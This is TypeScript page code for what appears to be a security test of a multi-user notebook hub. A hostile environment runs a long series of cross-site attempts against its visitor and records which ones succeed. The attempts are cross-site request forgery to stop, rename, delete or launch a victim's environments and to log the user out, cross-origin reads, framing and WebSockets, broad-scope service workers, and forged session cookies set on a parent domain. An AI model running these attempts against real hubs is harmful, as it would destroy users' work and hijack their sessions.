/** Page code of an environment that tries to act as its visitor, everywhere it should not. Runs in a browser. */

export interface Targets {
  /** The hub's origin. */
  readonly hub: string
  /** Ids of environments of this visitor that are there to be harmed. */
  readonly victim: string
  /** The hostile environment's own address and, as the visitor's browser has it, another person's. */
  readonly own: string
  readonly ownId: string
  readonly others: string
  /** What cookies that are meant for everybody name as their domain. */
  readonly parent: string
}

/**
 * What came of each try: 'threw …', 'opaque', 'error', 'closed' or 'nothing' when it told the page nothing; 'READ …'
 * with what it learnt. Blind writes are always opaque: what they did must be looked up in the hub. Stands alone, because
 * the browser gets its text.
 */
export async function attack(targets: Targets): Promise<Record<string, string>> {
  const { hub, victim, own, ownId, others, parent } = targets
  const found: Record<string, string> = {}
  const waitMs = 2_000
  const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
  const json = { 'Content-Type': 'application/json' }
  const api = `${hub}/hub/api/v1`
  const page = `${hub}/hub/environments/${victim}`

  const attempt = async (name: string, work: () => Promise<string>): Promise<void> => {
    try {
      found[name] = await work()
    } catch (error) {
      found[name] = `threw ${error instanceof Error ? error.name : String(error)}`
    }
  }
  const ask = async (url: string, init: RequestInit = {}): Promise<string> => {
    const answer = await fetch(url, { credentials: 'include', ...init })
    return answer.type === 'opaque' ? 'opaque' : `READ ${answer.status} ${(await answer.text()).slice(0, 200)}`
  }
  const blind = (url: string, body = '', headers: Record<string, string> = form): Promise<string> =>
    ask(url, { method: 'POST', mode: 'no-cors', headers, body })
  const either = (target: EventTarget, good: string, what: () => string): Promise<string> =>
    new Promise((resolve) => {
      target.addEventListener(good, () => resolve(`READ ${what()}`))
      target.addEventListener('error', () => resolve('error'))
      target.addEventListener('close', () => resolve('closed'))
      setTimeout(() => resolve('nothing'), waitMs)
    })
  const element = async (tag: 'img' | 'script' | 'link', url: string): Promise<string> => {
    const made = document.createElement(tag)
    made.setAttribute(tag === 'link' ? 'href' : 'src', url)
    made.setAttribute('rel', 'stylesheet')
    const outcome = either(made, 'load', () => tag)
    document.body.append(made)
    return await outcome
  }
  const textOf = (seen: Document | null): string =>
    seen === null || seen.URL === 'about:blank' ? 'nothing' : `READ ${seen.body.innerText.slice(0, 200)}`
  const frame = async (url: string): Promise<string> => {
    const made = document.createElement('iframe')
    made.src = url
    document.body.append(made)
    await new Promise((resolve) => made.addEventListener('load', resolve))
    return textOf(made.contentDocument)
  }
  const opened = async (url: string): Promise<string> => {
    const made = window.open(url)
    await new Promise((resolve) => setTimeout(resolve, waitMs))
    const outcome = made === null || made.closed ? 'closed' : textOf(made.document)
    made?.close()
    return outcome
  }
  const submit = async (url: string, fields: Record<string, string> = {}, type?: string): Promise<string> => {
    const made = document.createElement('form')
    const target = document.createElement('iframe')
    target.name = `frame${document.querySelectorAll('iframe').length}`
    Object.assign(made, {
      method: 'post',
      action: url,
      target: target.name,
      ...(type === undefined ? {} : { enctype: type }),
    })
    for (const [name, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement('input'), { name, value }))
    }
    document.body.append(target, made)
    const loaded = new Promise((resolve) => target.addEventListener('load', resolve))
    made.submit()
    await loaded
    return textOf(target.contentDocument)
  }
  const socket = (url: string): Promise<string> =>
    either(new WebSocket(url.replace(/^http/, 'ws')), 'open', () => 'a socket')

  const nonce = 'n'.repeat(43)
  await attempt('read the list', () => ask(`${api}/environments`))
  await attempt('read the home page', () => ask(`${hub}/hub/home`))
  await attempt('read a ticket', () => ask(`${hub}/hub/enter?environment=${ownId}&nonce=${nonce}`))
  await attempt('read an offer blindly', () => ask(`${api}/offers`, { mode: 'no-cors' }))
  await attempt('read the logins', () => ask(`${hub}/hub/sessions`))
  await attempt('launch', () => ask(`${api}/environments`, { method: 'POST', headers: json, body: '{}' }))
  await attempt('rename', () =>
    ask(`${api}/environments/${victim}`, { method: 'PATCH', headers: json, body: '{"title":"x"}' }),
  )
  await attempt('delete', () => ask(`${api}/environments/${victim}`, { method: 'DELETE' }))
  await attempt('stop', () => ask(`${api}/environments/${victim}/stop`, { method: 'POST' }))
  await attempt('stop blindly', () => blind(`${api}/environments/${victim}/stop`))
  await attempt('stop by page, blindly', () => blind(`${page}/stop`))
  await attempt('rename by page, blindly', () => blind(`${page}/rename`, 'title=harmed'))
  await attempt('delete by page, blindly', () => blind(`${page}/forget`))
  await attempt('launch again, blindly', () => blind(`${page}/again`))
  await attempt('launch blindly', () => blind(`${hub}/hub/launch`, 'profile=terminal&flavour=small'))
  await attempt('launch as text', () =>
    blind(`${api}/environments`, '{"profile":"terminal"}', { 'Content-Type': 'text/plain' }),
  )
  await attempt('stop by beacon', async () => (navigator.sendBeacon(`${page}/stop`, new URLSearchParams()), 'opaque'))
  await attempt('stop by form', () => submit(`${page}/stop`))
  await attempt('rename by form', () => submit(`${page}/rename`, { title: 'harmed' }))
  await attempt('launch by form as text', () => submit(`${api}/environments`, { '{"profile":"': '"}' }, 'text/plain'))
  await attempt('follow events', async () => {
    const source = new EventSource(`${api}/events`, { withCredentials: true })
    const outcome = await either(source, 'open', () => 'events')
    source.close()
    return outcome
  })
  await attempt('open a socket to the hub', () => socket(`${api}/events`))
  await attempt('the home page as an image', () => element('img', `${hub}/hub/home`))
  await attempt('the list as a script', () => element('script', `${api}/environments`))
  await attempt('a style sheet of the hub', () => element('link', `${hub}/hub/home`))
  await attempt('frame the home page', () => frame(`${hub}/hub/home`))
  await attempt('open the home page', () => opened(`${hub}/hub/home`))
  await attempt("read another's", () => ask(others))
  await attempt("post to another's, blindly", () => blind(others))
  await attempt("enter another's", () => submit(`${others}_hutch/enter`, { ticket: 'x.y', next: others }))
  await attempt("open a socket to another's", () => socket(`${others}_hutch/terminal/ws`))
  await attempt("frame another's", () => frame(others))
  await attempt("open another's", () => opened(others))
  await attempt('a worker for all', async () => {
    const made = await navigator.serviceWorker.register(`${own}worker.js`, { scope: '/' })
    return `READ ${made.scope}`
  })
  await attempt('a worker for the hub', async () => {
    const made = await navigator.serviceWorker.register(`${own}worker.js`, { scope: '/hub/' })
    return `READ ${made.scope}`
  })
  // Last: where it succeeds, nothing else would.
  await attempt('log out blindly', () => blind(`${hub}/hub/logout`))
  await attempt('log out everywhere, blindly', () => blind(`${hub}/hub/logout/everywhere`))
  await attempt('log out by form', () => submit(`${hub}/hub/logout`))
  for (const name of ['hutch-login', '__Host-hutch-login']) {
    document.cookie = `${name}=forged; Domain=${parent}; Path=/hub/home; Secure`
    document.cookie = `${name}=forged; Domain=${parent}; Path=/`
  }
  found['cookies'] = document.cookie
  return found
}
